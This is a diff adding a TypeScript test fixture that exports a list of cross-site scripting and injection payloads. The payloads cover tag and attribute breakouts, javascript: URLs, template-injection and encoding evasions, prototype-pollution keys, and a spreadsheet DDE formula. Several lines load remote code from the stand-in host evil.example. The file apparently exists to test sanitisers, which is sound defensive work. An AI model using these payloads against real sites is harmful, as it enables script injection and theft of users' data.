@@ -1,0 +1,81 @@
+/** What somebody would write where a text belongs, so that it runs: every one calls `hit()` if it ever does. */
+
+/** Ways out of the place where a text stands. */
+const waysOut = [
+  '',
+  '">',
+  "'>",
+  '-->',
+  ']]>',
+  '</p>',
+  '</title>',
+  '</style>',
+  '</script>',
+  '</textarea>',
+  '</svg>',
+  '{{',
+  '\\u003c/b>',
+  '\u2028',
+  '\0',
+];
+
+/** Things that run once they are outside. */
+const bodies = [
+  '<script>hit()</script>',
+  '<ScRiPt>hit()</sCrIpT >',
+  '<img src=x onerror=hit()>',
+  '<svg onload=hit()>',
+  '<svg><script>hit()</script></svg>',
+  '<details open ontoggle=hit()>',
+  '<a href=javascript:hit()>x</a>',
+  '<iframe srcdoc="<svg onload=parent.hit()>">',
+  '<input autofocus onfocus=hit()>',
+  '<math><mtext><img src onerror=hit()>',
+  '<template><img src onerror=hit()>',
+  '<style>*{background:url(javascript:hit())}</style>',
+  '<base href=//evil.example/>',
+  '<meta http-equiv=refresh content=0;url=javascript:hit()>',
+];
+
+/** What runs where it stands: in an attribute, an address, a template, a style, a script, a sheet. */
+const others = [
+  '" onpointerdown=hit() x="',
+  "' onmouseover=hit() x='",
+  '` onfocus=hit() autofocus ',
+  'javascript:hit()',
+  'JaVaScRiPt:hit()',
+  ' javascript:hit()',
+  'java\tscript:hit()',
+  'javascript&colon;hit()',
+  'data:text/html,<script>hit()</script>',
+  'vbscript:hit()',
+  '//evil.example/x.js',
+  '{{constructor.constructor("hit()")()}}',
+  '{{7*7}}',
+  '$t(close)',
+  '$' + '{hit()}',
+  '`$' + '{hit()}`',
+  '#{hit()}',
+  '<%= hit() %>',
+  "'-hit()-'",
+  '"-hit()-"',
+  '\\"-hit()//',
+  ');hit();//',
+  '};hit();{',
+  'expression(hit())',
+  'url(javascript:hit())',
+  '@import "//evil.example/x.css"',
+  '=hit()',
+  '=cmd|"/C calc"!A1',
+  '&lt;script&gt;hit()&lt;/script&gt;',
+  '&#60;script&#62;hit()&#60;/script&#62;',
+  '%3Cscript%3Ehit()%3C/script%3E',
+  '\u202e<script>hit()</script>',
+  '<\u200bscript>hit()</script>',
+  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
+  '__proto__',
+  'constructor',
+  'toString',
+];
+
+export const payloads: readonly string[] = [...waysOut.flatMap((out) => bodies.map((body) => out + body)), ...others];
